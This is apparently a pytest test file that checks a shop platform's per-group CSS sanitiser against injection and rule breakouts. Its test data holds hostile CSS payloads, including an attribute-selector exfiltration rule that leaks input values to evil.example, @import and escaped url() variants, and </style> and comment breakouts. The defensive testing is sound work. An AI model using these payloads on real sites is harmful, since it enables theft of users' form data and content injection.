"""The stylesheet of several groups loads nothing foreign, and each group's rules stay its own."""

import itertools
from typing import Any

import pytest
import tinycss2
from hypothesis import example, given, settings
from hypothesis import strategies as st

from clientela import clock
from clientela.errors import InvalidInputError
from clientela.groups import group_css, group_stylesheets, groups
from clientela.groups.groups import Group, NewGroup
from clientela.schema.documents import STORED
from clientela.stores.stores import Store

NOW = clock.now()
STORE = Store(
    id="demo", name="Demo", storefront_url="https://shop.example.com", currency="EUR", created_at=NOW, updated_at=NOW
)
FOREIGN = "body{background:url(https://evil.example/x)}input[value^=a]{background:url(//evil.example/a)}"
PIECES = [
    "a{color:red}", ".b > c::before{content:'x'}", "a{}.the-end{}", "a{", "}", "(", ")", "[", "]", "{", "{}",
    "/*", "*/", "/**/", "/", "*", '"', "'", "\\", "\\\n", "\n", "\r", "\f", "\0", " ", ";", ":", "@", "@x",
    "@layer q;", "@media print{", "@import 'https://evil.example'", "@\\69mport 'x';", "@import/**/url(x);",
    "</style>", "<\\2fstyle>", "'<\\2fstyle>'", "</", "<!--", "-->", "'<\\21--'", "url(", "url('", "\\75rl(",
    "u\\72l(https://evil.example)", "src('https://evil.example')", "image-set('https://evil.example' 1x)",
    "https://evil.example", FOREIGN, f"*/{FOREIGN}/*", f"*/{FOREIGN}", f"'{FOREIGN}", f"}}{FOREIGN}",
    f"\\{FOREIGN}", "--x:url(//evil.example)", "u+1?", "1e3", "-", "--", "#", "%", "1", ".", "\ufeff", "é",
    "\\110000 ", "\\0 ", "\\22 ", "\\7b ", "\\2a/", "/\\2a", "ident", "!important", "data:image/png,x",
    "a{b:url(data:image/png;base64,AA)}", ".end-x{}",
]  # fmt: skip
BREAKING_OUT = [
    ("a{}.the-end{}/*", f"*/ {FOREIGN} /*"),
    ("a{b:'", f"'}}{FOREIGN}"),
    ("a{/*", f"*/}}{FOREIGN}"),
    ("a{}\\", FOREIGN),
]


def stored(code: str, css: str) -> Group:
    """A group with CSS that was stored unchecked."""
    fields = {"name": code, "code": code, "css": css, "id": f"grp_{code}", "created_at": NOW, "updated_at": NOW}
    return Group.model_validate(fields, context=STORED)


def sheet(monkeypatch: pytest.MonkeyPatch, texts: list[str]) -> str:
    stock = {f"g{number}": stored(f"g{number}", css) for number, css in enumerate(texts)}
    monkeypatch.setattr(groups, "by_codes", lambda _, codes: [stock[code] for code in codes])
    return group_stylesheets.stylesheet(STORE, stock, NOW).css


def rules(css: str) -> list[str]:
    """The rules that a browser reads, none of which may load or end anything."""
    parsed = tinycss2.parse_stylesheet(css, skip_comments=True, skip_whitespace=True)
    for node in nodes(parsed):
        assert node.type != "error"
        assert not (
            node.type == "url" or (node.type == "function" and node.lower_name in {"url", "src", "image-set"})
        ) or ("evil.example" not in node.serialize())
        assert getattr(node, "lower_at_keyword", getattr(node, "lower_value", "")) != "import"
    assert "</" not in css
    assert "<!--" not in css
    return [rule.serialize() for rule in parsed]


def nodes(parsed: Any) -> Any:
    for node in parsed or ():
        yield node
        for part in ("prelude", "content", "arguments"):
            yield from nodes(getattr(node, part, None))


@pytest.mark.parametrize("texts", BREAKING_OUT)
def test_a_group_cannot_swallow_the_next_one(texts: tuple[str, str], monkeypatch: pytest.MonkeyPatch) -> None:
    for order in itertools.permutations([*texts, "p{color:red}"]):
        assert rules(sheet(monkeypatch, list(order))) == ["p{color:red}"]
    with pytest.raises(InvalidInputError):
        group_css.require_safe(STORE, texts[0])


@settings(max_examples=200, deadline=None)
@given(st.lists(st.lists(st.sampled_from(PIECES), max_size=6).map("".join), min_size=1, max_size=3))
@example(list(BREAKING_OUT[0]))
@example(["@x\\", "{}"])
def test_hostile_pieces_in_every_order_load_nothing_and_stay_apart(texts: list[str]) -> None:
    with pytest.MonkeyPatch.context() as monkeypatch:
        alone = {css: rules(sheet(monkeypatch, [css])) for css in texts}
        for order in itertools.permutations(texts):
            together = sheet(monkeypatch, list(order))
            assert rules(together) == [rule for css in reversed(order) for rule in alone[css]]
            assert rules(f"{together}.end{{}}")[-1] == ".end{}"


def test_comments_are_not_served(monkeypatch: pytest.MonkeyPatch) -> None:
    assert sheet(monkeypatch, ["/* one */a{/* two */color:red}/* three */"]) == "a{color:red}\n"


@pytest.mark.parametrize("half", ["\\d800 ", "\\DFFF "])
def test_half_a_character_is_served_as_browsers_read_it(half: str, monkeypatch: pytest.MonkeyPatch) -> None:
    served = sheet(monkeypatch, [f'a{{content:"{half}"}}'])
    assert served.encode() == 'a{content:"\ufffd"}\n'.encode()


@pytest.mark.parametrize("bracket", ["[", "{", "(", "a{", "url((", "f("])
def test_deep_css_is_refused_in_words(bracket: str, monkeypatch: pytest.MonkeyPatch) -> None:
    closing = {"[": "]", "{": "}", "(": ")"}
    for css in (bracket * 2000, bracket * 1600 + closing[bracket[-1]] * 1600):
        with pytest.raises(InvalidInputError):
            group_css.require_safe(STORE, css)
        assert sheet(monkeypatch, [css]) == ""


def test_what_a_store_may_no_longer_load_is_left_out(monkeypatch: pytest.MonkeyPatch) -> None:
    css = "a{b:url(https://shop.example.com/x.png)}"
    assert rules(sheet(monkeypatch, [css]))
    moved = STORE.model_copy(update={"storefront_url": "https://other.example.com"})
    assert group_css.serialize(moved, css) == ""
    assert NewGroup(name="x", code="x", css=css).css == css
